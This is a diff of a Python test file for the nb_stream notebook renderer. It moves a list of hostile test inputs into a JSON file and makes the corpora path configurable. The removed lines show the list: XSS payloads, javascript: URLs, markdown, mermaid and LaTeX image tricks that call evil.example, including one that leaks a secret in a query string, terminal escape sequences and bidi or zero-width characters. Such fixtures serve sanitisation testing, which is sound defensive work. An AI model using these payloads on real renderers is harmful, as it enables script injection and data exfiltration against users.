@@ -3,33 +3,21 @@
 from __future__ import annotations
 
 import json
+import os
+import pathlib
 from typing import Any
 
 from conftest import ROOT
 
 from nb_stream.model import Cell, CellKind, CellStatus, RunInfo, ToolCall
 
-CORPORA = ROOT.parent / "shared" / "corpora"
+CORPORA = pathlib.Path(os.environ.get("NB_STREAM_CORPORA", ROOT.parent / "shared" / "corpora"))
+"""Collections of others, which are kept outside of the repository; where they are missing, ours are tried alone."""
 
-OWN = [
-    "</pre></details><script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
-    "![x](https://evil.example/p.png?q=secret)",
-    "![x][r]\n\n[r]: https://evil.example/p.png",
-    '[a]: /x "title\n```\n"\n![x](https://evil.example/q.png)\n```\n',
-    "```\n![x](https://evil.example/p.png)",
-    "- item\n  ```\n![x](https://evil.example/p.png)\n```\n",
-    '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/p.png" }\n```',
-    "$\\style{background:url(https://evil.example/p.png)}{x}$",
-    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object>",
-    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200bzero\ufeffwidth \U000e0041\U000e0042 tags",
-    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J \x08\x08\x00 \x9b31m",
-    "over\rwritten\r\nlines",
-    "\ud800 lone",
-    "]]> --> */ <!-- <![CDATA[",
-    "javascript:alert(1) [x](javascript:alert(1))",
-]
+
+OWN: list[str] = [
+    text for texts in json.loads((ROOT / "tests" / "payloads.json").read_text("utf-8")).values() for text in texts
+] + ["\ud800 lone"]
 
 
 def corpus() -> list[str]:
